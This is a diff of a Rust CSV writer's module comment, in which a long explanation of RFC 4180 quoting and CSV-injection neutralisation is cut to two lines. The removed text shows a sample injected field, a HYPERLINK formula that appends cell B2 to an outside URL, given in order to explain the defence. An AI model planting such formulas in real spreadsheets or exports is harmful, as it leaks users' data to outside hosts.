@@ -1,20 +1,6 @@
-//! The project's CSV writer: every CSV that wacost writes (the CLI's `rates`, `tiers` and
-//! `bill --detail`, the page's exports, the log check's detail download) goes through these
-//! functions, so quoting and formula neutralisation are decided once.
-//!
-//! Fields follow RFC 4180: a field holding `,`, `"`, CR or LF is quoted and its quotes doubled.
-//! Records end with `\n` (not RFC 4180's CRLF), as wacost's outputs always have; spreadsheets
-//! read both.
-//!
-//! A field that starts with `=`, `+`, `-`, `@`, tab or carriage return is a formula to a
-//! spreadsheet: a market name or a log's `phone_number` label such as
-//! `=HYPERLINK("https://…"&B2,"rates")` would run when the file is opened. Such a field gets a
-//! leading `'` (OWASP's advice for CSV injection), which spreadsheets show as text. Plain numbers
-//! (`-5`, `+0.25`, and E.164 numbers such as `+919876543210`) are left as they are: they are no
-//! formula, and a `'` would turn a number into text.
-//!
-//! The writer is hand-written rather than csv-core's because `--detail` writes tens of millions
-//! of fields and almost none needs any care: one pass over the bytes decides that, and the field
+//! The writer: RFC 4180 quoting and formula neutralisation (see the module above for the
+//! rules). Hand-written rather than csv-core's because `--detail` writes tens of millions of
+//! fields and almost none needs any care: one pass over the bytes decides that, and the field
 //! is then copied as is.
 
 /// The first characters that make a spreadsheet read a cell as a formula.
